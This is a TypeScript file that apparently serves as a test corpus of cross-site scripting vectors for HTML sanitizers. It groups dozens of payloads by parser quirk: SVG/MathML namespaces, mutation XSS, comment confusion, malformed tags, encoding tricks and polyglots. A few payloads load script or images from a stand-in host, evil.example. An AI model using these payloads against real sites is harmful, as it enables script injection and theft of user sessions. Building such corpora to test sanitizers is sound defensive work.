import type { VectorClass } from './vector-class.ts';

const X = 'alert(1)';

/** Markup that two parsers build differently. */
export const PARSERS: Record<string, VectorClass> = {
  'svg and math': {
    why: 'another namespace has other rules for the same tags',
    vectors: [
      `<svg onload=${X}>`, `<svg><script>${X}</script></svg>`, `<svg><a xlink:href="javascript:${X}"><text>x</text></a></svg>`, `<svg><style><img src=x onerror=${X}></style></svg>`,
      `<svg><animate attributeName=href values=javascript:${X} /></svg>`, `<svg><set onbegin=${X}>`, `<svg><foreignObject><iframe srcdoc="<script>${X}</script>"></foreignObject></svg>`,
      `<math><mi xlink:href="data:x,<script>${X}</script>">x</mi></math>`, `<math href="javascript:${X}">x</math>`, `<svg><use href="data:image/svg+xml,x#x"></use></svg>`,
      `<svg><p><style><!--</style><img src=x onerror=${X}>--></style></p></svg>`, `<svg><![CDATA[><img src=x onerror=${X}>]]></svg>`, `<svg><title><b onclick=${X}>x</b></title></svg>`,
      `<svg><animate href=#x attributeName=href values="javascript:${X}"/><a id=x><text>x</text></a></svg>`, `<svg><animateTransform onbegin=${X}>`, `<svg><image href="//evil.example/i.png">`, `<svg><feImage xlink:href="//evil.example/f.png"/></svg>`, `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${X}</handler></svg>`,
      `<svg><script href="data:text/javascript,${X}"/></svg>`, `<svg><script>&#97;lert(1)</script></svg>`, `<svg xmlns="http://www.w3.org/2000/svg"><g onload=${X}></g></svg>`, `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${X}">x</maction></math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=${X}></annotation-xml></math>`,
      `<svg><desc><img src=x onerror=${X}></desc></svg>`, `<math><style><img src=x onerror=${X}></style></math>`, `<svg><discard onbegin=${X}>`, `<svg><a><rect width=99 height=99 /><animate attributeName=href to=javascript:${X} begin=0s></a></svg>`,
    ],
  },
  'mutations': {
    why: 'what is written safely is read anew, in another place, as something else',
    vectors: [
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${X}&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${X}>`,
      `<noscript><p title="</noscript><img src=x onerror=${X}>">`, `<xmp><p title="</xmp><img src=x onerror=${X}>">`, `<textarea><p title="</textarea><img src=x onerror=${X}>">`,
      `<title><p title="</title><img src=x onerror=${X}>">`, `<style><p title="</style><img src=x onerror=${X}>">`, `<iframe><p title="</iframe><img src=x onerror=${X}>">`,
      `<noembed><p title="</noembed><img src=x onerror=${X}>">`, `<noframes><p title="</noframes><img src=x onerror=${X}>">`, `<plaintext><b onclick=${X}>x`, `<template><script>${X}</script></template>`,
      `<template><b onclick=${X}>x</b></template>`, `<select><option><style></option></select><b><img src=x onerror=${X}></style></b>`, `<table><tr><td><a href=x><table><a href=y onclick=${X}>x`,
      `<xmp>&lt;img src=x onerror=${X}&gt;</xmp>`, `<textarea/><img src=x onerror=${X}>`, `<svg></p><style><a title="</style><img src=x onerror=${X}>">`, `<a href=x><b><a href=y><i></a></b>x`,
      `<listing>&lt;img src=x onerror=${X}&gt;</listing>`, `<p><b><p><i></b></p></i>x`, `<ul><li><p><ol></li></ul>x</p>`, `<b><blockquote></b>x</blockquote>`, `<option><p>x</option></p>`,
      `<math><mtext><table><mglyph><style><math><table id="</table>"><img src=x onerror=${X}">`, `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror=${X}>">`, `<svg><style><!--</style><a id="--><img src=x onerror=${X}>">`, `<math><annotation-xml encoding="text/html"><style><!--</style><img title="--&gt;&lt;img src=x onerror=${X}&gt;"></math>`,
      `<svg></svg><svg><title><style><a id="</style><img src=x onerror=${X}>"></style></title></svg>`, `<table><caption><svg><style></caption></table><img src=x onerror=${X}>`, `<a><table><a><img src=x onerror=${X}></a></table></a>`, `<select><svg><style></select><img src=x onerror=${X}></style></svg></select>`, `<p><svg><desc><p><style></p><img src=x onerror=${X}></style></desc></svg>`,
      `<noscript><style></noscript><img src=x onerror=${X}></style>`, `<template><style></template><img src=x onerror=${X}></style>`, `<xmp><svg></xmp><img src=x onerror=${X}></svg>`, `<listing><!--</listing><img src=x onerror=${X}>-->`, `<noembed><!--</noembed><img src=x onerror=${X}>-->`, `<plaintext><!--</plaintext><img src=x onerror=${X}>-->`, `<iframe><!--</iframe><img src=x onerror=${X}>-->`,
      `<b><p title="</b><img src=x onerror=${X}>"></p></b>`, `<ul><table><li><img src=x onerror=${X}></table></ul>`, `<h1><h2><img src=x onerror=${X}></h1>`, `<dl><dt><a href=x><dt><a href=javascript:${X}>x</dl>`, `<ruby><rt><rp><img src=x onerror=${X}></ruby>`, `<frameset onload=${X}>`, `<image/src=x/onerror=${X}>`, `<head><img src=x onerror=${X}></head>`, `<html onmouseover=${X}>`, `<body><img src=x onerror=${X}></body>`,
    ],
  },
  'comments and declarations': {
    why: 'where a comment ends is read in more than one way',
    vectors: [
      `<!--<img src="--><img src=x onerror=${X}>">`, `<!-- --!><img src=x onerror=${X}> -->`, `<!--><img src=x onerror=${X}>-->`, `<!---><img src=x onerror=${X}>-->`, `<!-- unclosed <b>`,
      `<![CDATA[<img src=x onerror=${X}>]]>`, `<!DOCTYPE html [<!ENTITY x "<script>${X}</script>">]>&x;`, `<?xml version="1.0"?><?php echo '<b onclick=${X}>'; ?>`, `<!--[if IE]><script>${X}</script><![endif]-->`,
      `<? foo="><script>${X}</script>">`, `<! foo="><script>${X}</script>">`, `</ foo="><script>${X}</script>">`, `<%<!--'%><script>${X}</script -->`,
      `<!--<!--><img src=x onerror=${X}>-->-->`, `<!--a--!><script>${X}</script>`, `<!-->${X}<script>-->${X}</script>`, `<![CDATA[<!--]]><img src=x onerror=${X}>-->`, `<![endif]--><script>${X}</script>`, `<!--[if !IE]><!--><img src=x onerror=${X}><!--<![endif]-->`, `<?xml-stylesheet href="javascript:${X}"?>`, `<?import namespace=x implementation="//evil.example">`,
      `<!ELEMENT x><img src=x onerror=${X}>`, `<!doctype html><script>${X}</script>`, `<!--\n--\n><img src=x onerror=${X}>`, `<!-- <img src=x onerror=${X}> -- >`,
    ],
  },
  'unclosed and strange': {
    why: 'what nobody closes is closed by whatever comes next',
    vectors: [
      `<img src=x onerror=${X}`, `<a href="https://example.org`, `<a href="x" `, `<b`, `<`, `</`, `<b <i`, `<b></i></b></b></p></ul>`, `</p></div></body></html><script>${X}`, `<\u200Bscript>${X}</script>`,
      `\uFF1Cscript\uFF1E${X}`, `+ADw-script+AD4-${X}`, `&lt;script&gt;${X}&lt;/script&gt;`, `&amp;lt;script&amp;gt;${X}`, `&#60;script&#62;${X}`, `&ltscript&gt${X}`, `<\0b onclick=${X}>x</b>`, `<b\0 onclick=${X}>x</b>`,
      `<custom-element onclick=${X}>x</custom-element>`, `<a:b href="x">x</a:b>`, `<p/><b/>x`, `<li><li><li>x`, `<br/></br><br x=y>`, `<blink>x</blink>`, `<p>x<p>y<ul>z</p></ul>`, `<a>x</a><a href>y</a><a href="">z</a>`,
      `<script`, `<script src=//evil.example/x.js`, `<iframe src=javascript:${X} `, `<a href=javascript:${X}`, `<b/`, `<b/><i onclick=${X}`, `<x onclick=${X}>`, `<-img src=x onerror=${X}>`, `<_img src=x onerror=${X}>`, `<1 onclick=${X}>`, `<!b onclick=${X}>`, `<<b onclick=${X}>>x`, `<b<i onclick=${X}>x`, `<b onclick=${X} <i>x`, `< script>${X}</ script>`, `<\nscript>${X}</script>`, `<\tb onclick=${X}>x`, `<b\u00A0onclick=${X}>x</b>`,
    ],
  },
  'encodings': {
    why: 'bytes that become a bracket or a quote after the check',
    vectors: [
      `+ADw-img src=x onerror=${X}+AD4-`, `\uFEFF<script>${X}</script>`, `\uFEFF+ADw-script+AD4-`, `%3Cscript%3E${X}%3C%2Fscript%3E`, `%253Cscript%253E${X}%253C/script%253E`, `\\x3cscript\\x3e${X}\\x3c/script\\x3e`, `\\u003cscript\\u003e${X}\\u003c/script\\u003e`, `\u00BCscript\u00BE${X}\u00BC/script\u00BE`, `\uFE64script\uFE65${X}\uFE64/script\uFE65`,
      `&#x3c;script&#x3e;${X}&#x3c;/script&#x3e;`, `&#0060script&#0062${X}`, `&LT;script&GT;${X}`, `&amp;#60;img src=x onerror=${X}&amp;#62;`, `&#x26;lt;script&#x26;gt;${X}`, `\u202E>${X.split('').reverse().join('')}=kcilcno b<`, `\u2066<b onclick=${X}>\u2069x</b>`, `<b\u200D onclick=${X}>x</b>`, `<img\u2000src=x onerror=${X}>`, `\u0308<b onclick=${X}>`, `<b title="\uFF02 onclick=${X}">x</b>`,
      `\u2039script\u203A${X}`, `\u02C2img src=x onerror=${X}\u02C3`, `<ſcript>${X}</ſcript>`, `<\u0130mg src=x onerror=${X}>`, `\u{E0073}<script>${X}</script>`, `<scr\u00ADipt>${X}</scr\u00ADipt>`,
    ],
  },
  'polyglots': {
    why: 'one string that breaks out of whatever it stands in',
    vectors: [
      `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${X} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${X}//>\\x3e`, `">><marquee><img src=x onerror=${X}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${X}>`, `'"--></style></script></title></textarea><svg onload=${X}>`, `\`"'><img src=x onerror=${X}>`,
      `javascript:"/*'/*\`/*--></noscript></title></textarea></style></template></noembed></script><html \\" onmouseover=/*&lt;svg/*/onload=${X}//>`, `-->'"/></sCript><deTailS open x=">" ontoggle=(${X})>`, `</noscript></xmp></iframe></listing></plaintext><img src=x onerror=${X}>`, `<!--'/*"/*\\'/*\\"/*--></Script><Image SrcSet=K */; OnError=${X} //# -->`, `%0ajavascript:\`/*\\"/*-->&lt;svg onload='/*</template></noembed></noscript></style></title></textarea></script><html onmouseover="/**/ ${X}//'">\``,
    ],
  },
}; // biome-ignore format: a heap
